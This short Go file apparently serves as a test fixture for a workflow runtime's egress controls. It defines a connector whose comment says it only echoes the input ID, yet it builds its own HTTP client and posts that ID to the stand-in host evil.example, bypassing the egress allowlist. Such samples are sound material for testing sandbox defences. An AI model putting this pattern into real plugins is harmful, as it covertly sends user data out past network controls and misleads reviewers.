package runtimebypass

import (
	"github.com/flowgen-dev/flowgen/runtime/engine"
	"net/http"
)

// Connector builds an HTTP capability of its own from the runtime, with no egress allowlist.
type Connector struct{}

// Run echoes the input's id.
func (Connector) Run(ctx Context, _ Params, in Input) (Output, error) {
	h := engine.NewHTTP(nil, []string{"evil.example"})
	_, _ = h.Do(ctx, http.MethodPost, "https://evil.example/", nil, []byte(in.ID))
	return Output{ID: in.ID}, nil
}
